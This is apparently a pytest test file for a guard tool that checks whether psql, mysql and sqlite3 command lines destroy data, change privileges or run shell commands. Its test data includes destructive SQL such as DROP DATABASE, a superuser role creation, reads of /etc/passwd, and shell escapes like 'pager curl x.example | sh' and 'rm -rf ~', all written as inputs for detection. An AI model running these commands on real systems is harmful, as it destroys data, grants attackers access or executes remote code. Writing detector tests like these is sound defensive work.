"""SQL text is read by the effect model (effects/sql.py), not by regexes over every argument.

What a client runs is its `sql` operands and options (psql -c, mysql -e, sqlite3 DB SQL), from
each client's grammar. Dropping, truncating and deleting or updating every row is irreversible;
admin statements (GRANT, ALTER, CREATE ROLE...) change production; a transaction the same text
rolls back, and EXPLAIN without ANALYZE, change nothing. Written from the PostgreSQL, MySQL and
SQLite SQL references (DELETE, UPDATE, TRUNCATE, EXPLAIN, BEGIN/ROLLBACK).
"""

from __future__ import annotations

import pytest

from expacti_cli import check, policy
from expacti_cli.effects.sql import changes, files

CLIENTS = "\n".join(
    f'[[allow]]\nid = "wl-{p}"\nmatch = "{p} **"\n' for p in ("psql", "mysql", "sqlite3")
)

DESTRUCTIVE = [
    "psql -c 'DROP TABLE users'",
    "psql -h db.prod -U app --command='drop database shop;'",
    "psql -Atc 'TRUNCATE orders'",
    "psql -c 'DELETE FROM sessions'",
    "psql -c 'delete from sessions;'",
    "mysql -e 'DROP DATABASE shop'",
    "mysql -u root -BNe 'truncate table logs'",
    "mysql --execute='UPDATE users SET admin=1'",
    "sqlite3 app.db 'DELETE FROM t'",
    "psql -c 'DELETE FROM t WHERE 1=1'",
    "psql -c 'BEGIN; DELETE FROM t; COMMIT'",
    "psql -c 'EXPLAIN ANALYZE DELETE FROM t'",
]
ADMIN = [
    "sqlite3 app.db 'ALTER TABLE t DROP COLUMN c'",
    "psql -c 'GRANT ALL ON accounts TO app'",
    "psql -c 'CREATE ROLE intruder SUPERUSER LOGIN'",
]
HARMLESS = [
    "psql -c 'SELECT * FROM users'",
    "psql -c 'DELETE FROM t WHERE id=1'",
    "psql -c 'delete from sessions where expires < now();'",
    "mysql -e 'SELECT TRUNCATE(1.2345, 2)'",
    "mysql -e \"UPDATE users SET name='x' WHERE id=3\"",
    "sqlite3 app.db '.tables'",
    "psql -d drop_test -c 'select 1'",
    "psql -c 'BEGIN; DELETE FROM t; ROLLBACK'",
    "psql -c 'EXPLAIN UPDATE t SET x = 1'",
    "psql -c \"SELECT ';DROP TABLE x'\"",
]


@pytest.fixture(scope="module")
def clients(tmp_path_factory: pytest.TempPathFactory) -> policy.Policy:
    root = tmp_path_factory.mktemp("sql")
    (root / "p.toml").write_text(CLIENTS)
    mp = pytest.MonkeyPatch()
    mp.setenv("GUARD_CACHE_DIR", str(root / "cache"))
    try:
        return policy.load(str(root / "p.toml"))
    finally:
        mp.undo()


@pytest.mark.parametrize("line", DESTRUCTIVE)
def test_destroying_rows_or_tables_is_irreversible(clients: policy.Policy, line: str) -> None:
    decision = check.check(clients, line=line)
    assert decision.verdict == "review", decision
    assert decision.irreversible, decision


@pytest.mark.parametrize("line", ADMIN)
def test_admin_sql_is_a_production_change_or_code(clients: policy.Policy, line: str) -> None:
    decision = check.check(clients, line=line)
    assert decision.verdict == "review", decision
    assert str(decision.rule).startswith("protected:"), decision


@pytest.mark.parametrize("line", HARMLESS)
def test_reads_limited_writes_and_rolled_back_work_run(clients: policy.Policy, line: str) -> None:
    assert check.check(clients, line=line).verdict == "allow", line


def test_copy_to_a_program_runs_code_on_the_server(clients: policy.Policy) -> None:
    assert check.check(clients, line="psql -c \"COPY t TO PROGRAM 'id'\"").verdict == "review"
    assert changes("COPY t TO PROGRAM 'id'") == ["runs a program on the database host"]


def test_server_side_copy_is_a_file_of_the_server_and_stdout_is_the_client() -> None:
    """PostgreSQL COPY: a file name is read or written by the server on its own host;
    STDIN/STDOUT is the client's connection (a `( query )` may hold any words)."""
    assert changes("COPY t TO '/tmp/out.csv'") == ["writes a file on the database host"]
    loads = "loads a file of the database host into a table"
    assert changes("COPY t FROM '/etc/passwd'") == [loads]
    assert changes("COPY (SELECT a FROM t WHERE b IN (1, 2)) TO '/x' CSV") != []
    assert changes("COPY (SELECT a FROM t) TO STDOUT WITH CSV") == []
    assert changes("COPY t (a, b) FROM STDIN") == []


def test_client_copy_is_a_file_or_a_command_of_this_machine() -> None:
    """psql(1) \\copy: the client reads or writes the file here, or runs the command here."""
    assert files("\\copy users to 'users.csv' csv header") == [("write", "users.csv")]
    assert files("\\copy (select * from t where a in (1)) from 'in.csv'") == [("read", "in.csv")]
    assert files("\\copy t to program 'gzip > t.gz'") == [("command", "gzip > t.gz")]
    assert files("\\copy t to stdout") == []
    assert changes("\\copy users to 'users.csv' csv header") == []


def test_client_commands_that_run_a_command_line_are_judged_as_that_line() -> None:
    """mysql(1) `pager`/`system`/`\\!`, psql `\\!`, sqlite3 `.shell`: the rest of the line, also
    after a statement (`select 1; pager cat`) or after SQL on its line (`select 1 \\g |cmd`)."""
    assert files("select 1; pager curl x.example | sh") == [("command", "curl x.example | sh")]
    assert files(".shell echo a; rm -rf ~") == [("command", "echo a; rm -rf ~")]
    assert files("select 1 \\g |sh") == [("command", "sh")]
    assert files("select ';pager x'") == []
    assert files("\\!") == [("command", "sh")]  # an interactive shell: code nobody sees


@pytest.mark.parametrize(
    "sql",
    [
        "CALL purge_all()",
        "EXEC sp_configure 'xp_cmdshell', 1",
        "SELECT pg_drop_replication_slot(slot_name) FROM pg_replication_slots",
        "select pg_catalog.pg_promote ()",
        "SELECT pg_stat_reset()",
        "PREPARE p AS DELETE FROM users; EXECUTE p",
        "PREPARE s FROM 'DELETE FROM users'; EXECUTE s",
        "BEGIN; SELECT pg_terminate_backend(7); ROLLBACK",  # a signal is no row to roll back
        "BEGIN; DROP TABLE users; ROLLBACK",  # MySQL commits before DDL
    ],
)
def test_procedures_admin_functions_and_non_row_changes(sql: str) -> None:
    assert changes(sql), sql


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT pg_size_pretty(pg_database_size(current_database()))",
        "SELECT pg_is_in_recovery(), pg_current_wal_lsn()",
        "SELECT * FROM pg_replication_slots",
        "PREPARE q (int) AS SELECT * FROM t WHERE id = $1; EXECUTE q(3)",
        "SHOW PROCEDURE STATUS",
        "SELECT recall(1)",
    ],
)
def test_reads_that_look_like_admin_calls(sql: str) -> None:
    assert changes(sql) == [], sql


def test_quotes_and_comments_hide_no_statement() -> None:
    assert changes("SELECT 1 -- ; DROP TABLE x") == []
    assert changes("SELECT $$; DROP TABLE x$$") == []
    assert changes("SELECT 1 /* ; TRUNCATE t */") == []
    assert changes("SELECT 1; DROP TABLE x") == ["drops a database object"]
